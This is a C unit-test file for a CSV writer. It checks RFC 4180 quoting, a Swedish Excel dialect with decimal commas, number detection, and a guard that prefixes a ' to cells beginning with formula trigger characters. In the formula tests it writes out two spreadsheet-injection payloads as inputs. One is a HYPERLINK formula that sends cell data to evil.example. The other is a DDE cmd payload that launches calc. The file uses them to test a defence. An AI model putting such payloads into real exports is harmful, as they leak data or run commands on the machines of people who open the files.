/* SPDX-License-Identifier: ISC
 * Unit tests for lib/csv.c, the one CSV writer: RFC 4180 quoting, the
 * formula rule for text cells (every OWASP trigger character), plain
 * numbers staying numbers, and rows that fail instead of truncating.
 */
#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "csv.h"
#include "check_run.h"

/* Cell s of kind k as the writer writes it (first in its row). */
static const char *
cell(enum csv_kind k, const char *s)
{
	static struct buf b;

	buf_free(&b);
	buf_init(&b, 0);
	ck_assert_int_eq(csv_cell(&b, k, s, true), UF_OK);
	return buf_str(&b);
}

START_TEST(test_quoting)
{
	ck_assert_str_eq(cell(CSV_TEXT, "plain"), "plain");
	ck_assert_str_eq(cell(CSV_TEXT, ""), "");
	ck_assert_str_eq(cell(CSV_TEXT, NULL), "");
	ck_assert_str_eq(cell(CSV_TEXT, "a,b"), "\"a,b\"");
	ck_assert_str_eq(cell(CSV_TEXT, "say \"hej\""), "\"say \"\"hej\"\"\"");
	ck_assert_str_eq(cell(CSV_TEXT, "two\nlines"), "\"two\nlines\"");
	ck_assert_str_eq(cell(CSV_TEXT, "cr\r"), "\"cr\r\"");
	ck_assert_str_eq(cell(CSV_TEXT, " lead"), "\" lead\"");
	ck_assert_str_eq(cell(CSV_TEXT, "trail "), "\"trail \"");
	ck_assert_str_eq(cell(CSV_TEXT, "\""), "\"\"\"\"");
	ck_assert_str_eq(cell(CSV_TEXT, "vård;ö"), "vård;ö");
	/* csv_field is the text cell. */
	{
		struct buf b;
		buf_init(&b, 0);
		ck_assert_int_eq(csv_field(&b, "=1", true), UF_OK);
		ck_assert_int_eq(csv_field(&b, "x", false), UF_OK);
		ck_assert_str_eq(buf_str(&b), "'=1,x");
		buf_free(&b);
	}
}
END_TEST

/* Every trigger of OWASP's list gets the ' in text cells; quoting still
 * applies around it (the ' is inside the quotes, part of the text). */
START_TEST(test_formula_text)
{
	ck_assert_str_eq(cell(CSV_TEXT, "=1+1"), "'=1+1");
	ck_assert_str_eq(cell(CSV_TEXT, "+1+1"), "'+1+1");
	ck_assert_str_eq(cell(CSV_TEXT, "-1+1"), "'-1+1");
	ck_assert_str_eq(cell(CSV_TEXT, "@SUM(A1)"), "'@SUM(A1)");
	ck_assert_str_eq(cell(CSV_TEXT, "\t=1"), "'\t=1");
	ck_assert_str_eq(cell(CSV_TEXT, "\r=1"), "\"'\r=1\"");
	ck_assert_str_eq(cell(CSV_TEXT, "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka\")"),
	    "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Klicka\"\")\"");
	ck_assert_str_eq(cell(CSV_TEXT, "-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
	/* A number typed by a person is text: the rule holds for it too. */
	ck_assert_str_eq(cell(CSV_TEXT, "-5"), "'-5");
	/* Not triggers: later characters, a leading space, other symbols. */
	ck_assert_str_eq(cell(CSV_TEXT, "a=1"), "a=1");
	ck_assert_str_eq(cell(CSV_TEXT, " =1"), "\" =1\"");
	ck_assert_str_eq(cell(CSV_TEXT, "'=1"), "'=1");
	ck_assert_str_eq(cell(CSV_TEXT, "–0.5"), "–0.5"); /* en dash */
	ck_assert(csv_is_formula_start("="));
	ck_assert(!csv_is_formula_start(""));
	ck_assert(!csv_is_formula_start(NULL));
}
END_TEST

/* Numbers the program wrote stay numbers; a "number" that is not a plain
 * number is written as text, so a wrong kind cannot pass a formula. */
START_TEST(test_numbers)
{
	ck_assert_str_eq(cell(CSV_NUMBER, "-0,5"), "\"-0,5\""); /* comma: quoted */
	ck_assert_str_eq(cell(CSV_NUMBER, "-0.5"), "-0.5");
	ck_assert_str_eq(cell(CSV_NUMBER, "+0,30"), "\"+0,30\"");
	ck_assert_str_eq(cell(CSV_NUMBER, "-3"), "-3");
	ck_assert_str_eq(cell(CSV_NUMBER, "42"), "42");
	ck_assert_str_eq(cell(CSV_NUMBER, "<5"), "<5");
	ck_assert_str_eq(cell(CSV_NUMBER, ""), "");
	ck_assert_str_eq(cell(CSV_NUMBER, "-1+1"), "'-1+1");
	ck_assert_str_eq(cell(CSV_NUMBER, "=1"), "'=1");
	ck_assert_str_eq(cell(CSV_NUMBER, "-"), "'-");
	ck_assert_str_eq(cell(CSV_NUMBER, "-0.5 – 0.3"), "'-0.5 – 0.3");
	ck_assert(csv_is_number("0"));
	ck_assert(csv_is_number("-12,25"));
	ck_assert(csv_is_number("+7.5"));
	ck_assert(!csv_is_number("-"));
	ck_assert(!csv_is_number("1,"));
	ck_assert(!csv_is_number(",5"));
	ck_assert(!csv_is_number("1,2,3"));
	ck_assert(!csv_is_number("1e5"));
	ck_assert(!csv_is_number("--1"));
	ck_assert(!csv_is_number("-1 "));
	ck_assert(!csv_is_number(""));
	ck_assert(!csv_is_number(NULL));
}
END_TEST

START_TEST(test_rows)
{
	struct buf b;
	const char *f[] = { "a", NULL, "c,d", "-1" };
	const enum csv_kind k[] = { CSV_TEXT, CSV_TEXT, CSV_TEXT, CSV_NUMBER };

	buf_init(&b, 0);
	ck_assert_int_eq(csv_row(&b, f, 4), UF_OK);
	ck_assert_str_eq(buf_str(&b), "a,,\"c,d\",'-1\r\n");
	buf_reset(&b);
	ck_assert_int_eq(csv_row_kinds(&b, k, f, 4), UF_OK);
	ck_assert_str_eq(buf_str(&b), "a,,\"c,d\",-1\r\n");
	buf_free(&b);
	/* A buffer that is too small fails instead of truncating silently. */
	buf_init(&b, 4);
	ck_assert_int_ne(csv_row(&b, f, 3), UF_OK);
	buf_free(&b);
	/* An out-of-range kind is a programmer error, not a silent cell. */
	buf_init(&b, 0);
	ck_assert_int_eq(csv_cell(&b, CSV__MAX, "x", true), UF_EINTERNAL);
	buf_free(&b);
}
END_TEST

/* Cell s of kind k in dialect d, not first in its row (separator shown). */
static const char *
dcell(enum csv_dialect d, enum csv_kind k, const char *s)
{
	static struct buf b;

	buf_free(&b);
	buf_init(&b, 0);
	ck_assert_int_eq(csv_dcell(&b, d, k, s, false), UF_OK);
	return buf_str(&b);
}

START_TEST(test_dialects)
{
	enum csv_dialect d;
	struct buf b;
	const char *row[] = { "a;b", "2.5", "=1+1" };
	const enum csv_kind kinds[] = { CSV_TEXT, CSV_NUMBER, CSV_TEXT };

	ck_assert(csv_dialect_parse("excel-sv", &d) && d == CSV_EXCEL_SV);
	ck_assert(csv_dialect_parse("rfc4180", &d) && d == CSV_RFC4180);
	ck_assert(!csv_dialect_parse("excel", &d));
	ck_assert(!csv_dialect_parse(NULL, &d));
	ck_assert_str_eq(csv_dialect_name(CSV_EXCEL_SV), "excel-sv");
	/* excel-sv: ';' separates and is quoted in text; ',' is not. */
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_TEXT, "a;b"), ";\"a;b\"");
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_TEXT, "a,b"), ";a,b");
	ck_assert_str_eq(dcell(CSV_RFC4180, CSV_TEXT, "a;b"), ",a;b");
	/* decimal comma for numbers in excel-sv; as written in rfc4180 */
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_NUMBER, "2.5"), ";2,5");
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_NUMBER, "-0.25"), ";-0,25");
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_NUMBER, "-0,52"), ";-0,52");
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_NUMBER, "-9"), ";-9");
	ck_assert_str_eq(dcell(CSV_RFC4180, CSV_NUMBER, "2.5"), ",2.5");
	ck_assert_str_eq(dcell(CSV_RFC4180, CSV_NUMBER, "-0,52"), ",\"-0,52\"");
	/* the formula rule holds in both; a number-looking text is not a number */
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_TEXT, "=1+1"), ";'=1+1");
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_NUMBER, "@x"), ";'@x");
	ck_assert_str_eq(dcell(CSV_EXCEL_SV, CSV_TEXT, "-1;2"), ";\"'-1;2\"");
	/* the BOM only in excel-sv; whole rows end in CRLF */
	buf_init(&b, 0);
	ck_assert_int_eq(csv_begin(&b, CSV_RFC4180), UF_OK);
	ck_assert_uint_eq(b.len, 0);
	ck_assert_int_eq(csv_begin(&b, CSV_EXCEL_SV), UF_OK);
	ck_assert_int_eq(csv_drow(&b, CSV_EXCEL_SV, kinds, row, 3), UF_OK);
	ck_assert_str_eq(buf_str(&b), "\xef\xbb\xbf\"a;b\";2,5;'=1+1\r\n");
	/* text for other formats gets the same guard */
	buf_reset(&b);
	ck_assert_int_eq(csv_guarded_text(&b, "+46"), UF_OK);
	ck_assert_str_eq(buf_str(&b), "'+46");
	buf_free(&b);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("csv");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, test_quoting);
	tcase_add_test(tc, test_formula_text);
	tcase_add_test(tc, test_numbers);
	tcase_add_test(tc, test_rows);
	tcase_add_test(tc, test_dialects);
	suite_add_tcase(s, tc);
	return check_run(s);
}
